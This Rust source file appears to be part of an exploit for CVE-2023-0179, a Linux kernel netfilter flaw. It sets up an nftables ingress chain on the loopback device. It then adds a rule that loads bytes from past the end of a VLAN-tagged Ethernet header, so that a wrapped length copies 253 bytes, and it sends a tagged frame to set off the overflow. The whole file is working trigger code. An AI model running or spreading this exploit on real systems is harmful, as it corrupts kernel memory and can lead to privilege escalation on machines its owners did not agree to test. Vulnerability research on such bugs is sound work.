//! CVE-2023-0179: a load that ends behind the Ethernet header of a frame whose VLAN tag is kept
//! beside it. The length of the part within the header wraps.

use std::io;

use crate::{netlink::Batch, nft, packet};

const TABLE: &str = "otf_vlan";
const DEVICE: &str = "lo";
const CHAIN: &str = "ingress";
/// Hook number of the ingress of a device.
const INGRESS: u32 = 0;
/// Last byte of an Ethernet header with a tag.
const LAST: u32 = 17;

/// A chain that sees frames before anybody else.
pub fn setup() -> io::Result<()> {
    let family = libc::NFPROTO_NETDEV;
    Batch::new()
        .add(
            libc::NFT_MSG_NEWTABLE,
            family,
            nft::CREATE,
            &nft::table(TABLE),
        )
        .add(
            libc::NFT_MSG_NEWCHAIN,
            family,
            nft::CREATE,
            &nft::base_chain(TABLE, CHAIN, INGRESS, Some(DEVICE)),
        )
        .send()
}

/// Four bytes from the last one of the header on: 253 are copied.
pub fn attack() -> io::Result<()> {
    let load = nft::payload(nft::REG32_00, nft::Base::Link, LAST, 4);
    Batch::new()
        .add(
            libc::NFT_MSG_NEWRULE,
            libc::NFPROTO_NETDEV,
            nft::APPEND,
            &nft::rule(TABLE, CHAIN, &[load]),
        )
        .send()?;
    packet::send_tagged_frame(DEVICE)
}
